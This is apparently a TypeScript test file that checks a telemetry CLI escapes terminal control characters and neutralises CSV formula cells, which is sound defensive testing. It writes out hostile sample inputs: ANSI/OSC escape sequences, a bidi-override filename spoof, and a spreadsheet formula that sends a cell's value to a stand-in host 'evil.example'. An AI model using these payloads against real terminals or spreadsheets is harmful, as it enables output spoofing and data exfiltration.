// Issue 10, finding 10: text from telemetry (span names, agent and tool names, error messages) must not
// drive the terminal, and CSV cells must not be formulas. A hostile span is written through the real
// pipeline; the real CLI prints it.
import { beforeAll, describe, expect, it } from 'vitest';
import { registerTelemetry, withAgentRun, withToolCall } from '../dist/src/index.js';
import { csvField, safeText } from '../dist/src/cli/format.js';
import { runCli, spawnCli } from './support/cli.js';
import { readSpans, tmpDir } from './support/harness.js';

// ESC sequences (clear screen, window title via OSC, 8-bit CSI), a bidi override, DEL and a bell.
const AGENT = 'evil\x1b]0;pwned\x07agent';
const TOOL = 'wipe\x1b[2J\x1b[H';
const MESSAGE = 'boom \x1b[31mred\u202egnp.exe\x9b6n\x7f';
// What a terminal acts on: C0 (but the newline ending a line), DEL, C1, bidi controls, separators.
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let dir: string;
let traceId: string;

beforeAll(async () => {
  dir = tmpDir();
  const t = registerTelemetry({ dir, duckdb: false, serviceName: 'svc\x1b[1m' });
  await withAgentRun({ agentName: AGENT, runKind: 'attack' }, async () => {
    await withToolCall({ name: TOOL, callId: 'c1' }, async () => { throw new Error(MESSAGE); }).catch(() => undefined);
  });
  await withAgentRun({ agentName: '=HYPERLINK("http://evil.example/?x="&A1)', runKind: '+cmd' }, async () => undefined);
  await t.shutdown();
  const spans = await readSpans(dir);
  expect(spans.some((s) => s.name.includes('\x1b[2J'))).toBe(true); // the raw bytes are on disk, as recorded
  traceId = spans.find((s) => s.name.includes('\x1b[2J'))!.trace_id;
});

/** The output carries no raw control character and shows the escapes instead. */
function expectSafe(out: string, shows: string[]): void {
  const bad = UNSAFE.exec(out);
  expect(bad, bad ? `raw U+${bad[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${JSON.stringify(out.slice(Math.max(0, bad.index - 30), bad.index + 10))}` : '').toBeNull();
  for (const s of shows) expect(out).toContain(s);
}

describe('terminal output escapes control characters from telemetry', () => {
  it('safeText shows C0, DEL, C1 and bidi controls as visible escapes', () => {
    expect(safeText('a\x1b[2Jb\x07\x7f\x9b\u202e\u2066z\n')).toBe('a\\x1b[2Jb\\x07\\x7f\\x9b\\u202e\\u2066z\\x0a');
    expect(safeText('plain — ünïcode ✓')).toBe('plain — ünïcode ✓');
  });

  it('trace: the tree, the waterfall and --json', async () => {
    const r = await runCli(['trace', traceId, '--dir', dir]);
    expect(r.code, r.stderr).toBe(0);
    expectSafe(r.stdout, ['wipe\\x1b[2J\\x1b[H', 'boom \\x1b[31mred\\u202egnp.exe\\x9b6n\\x7f', 'svc\\x1b[1m']);
    const j = await runCli(['trace', traceId, '--dir', dir, '--json']);
    expect(j.code, j.stderr).toBe(0);
    expectSafe(j.stdout, []);
    expect(JSON.parse(j.stdout).some((s: { status_message: string }) => s.status_message === MESSAGE)).toBe(true); // same data
  });

  it('runs, report and sql tables', async () => {
    const runs = await runCli(['runs', '--dir', dir]);
    expect(runs.code, runs.stderr).toBe(0);
    expectSafe(runs.stdout, ['evil\\x1b]0;pwned\\x07agent']);
    const report = await runCli(['report', '--dir', dir, '--since', 'all']);
    expect(report.code, report.stderr).toBe(0);
    expectSafe(report.stdout, ['evil\\x1b]0;pwned\\x07agent', 'wipe\\x1b[2J\\x1b[H']);
    const reportJson = await runCli(['report', '--dir', dir, '--since', 'all', '--json']);
    expectSafe(reportJson.stdout, []);
    const sql = await runCli(['sql', 'SELECT name, status_message FROM spans ORDER BY name', '--dir', dir]);
    expect(sql.code, sql.stderr).toBe(0);
    expectSafe(sql.stdout, ['wipe\\x1b[2J\\x1b[H']);
    const json = await runCli(['sql', 'SELECT name, status_message FROM spans', '--dir', dir, '--json']);
    expectSafe(json.stdout, []);
    expect(JSON.parse(json.stdout).some((s: { status_message: string }) => s.status_message === MESSAGE)).toBe(true);
  });

  it('tail, as lines and as --json', async () => {
    for (const extra of [[], ['--json']]) {
      const child = spawnCli(['tail', '--since', '1h', '--dir', dir, ...extra]);
      const deadline = Date.now() + 5000;
      while (!child.output().stdout.includes('wipe') && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
      child.child.kill('SIGINT');
      const r = await child;
      expectSafe(r.stdout, extra.length ? ['\\u001b[2J'] : ['wipe\\x1b[2J\\x1b[H', 'evil\\x1b]0;pwned\\x07agent']);
      if (extra.length) expect(r.stdout).toContain('\\u202e');
    }
  });
});

describe('--csv neutralises formula cells (OWASP CSV injection)', () => {
  it('a cell starting with = + - @ tab or CR gets a leading quote; numbers stay numbers', () => {
    expect(['=1+2', '+x', '-y', '@z', '\tt', '\rr', 'ok', -1.5, 'a=b'].map(csvField))
      .toEqual([`'=1+2`, `'+x`, `'-y`, `'@z`, `'\tt`, `"'\rr"`, 'ok', '-1.5', 'a=b']);
  });

  it('runs --csv and sql --csv', async () => {
    const runs = await runCli(['runs', '--dir', dir, '--csv']);
    expect(runs.code, runs.stderr).toBe(0);
    expect(runs.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    expect(runs.stdout).toContain(`,'+cmd,`);
    expect(runs.stdout).not.toMatch(/(^|,)[=+@]/m);
    expectSafe(runs.stdout, ['evil\\x1b]0;pwned\\x07agent']);
    const sql = await runCli(['sql', `SELECT '=1+2' AS a, '@SUM(A1)' AS b, '-2+3' AS c, chr(9) || 'x' AS d, -1.5 AS n`, '--dir', dir, '--csv']);
    expect(sql.code, sql.stderr).toBe(0);
    expect(sql.stdout.trim().split('\n')[1]).toBe(`'=1+2,'@SUM(A1),'-2+3,'\tx,-1.5`);
  });
});
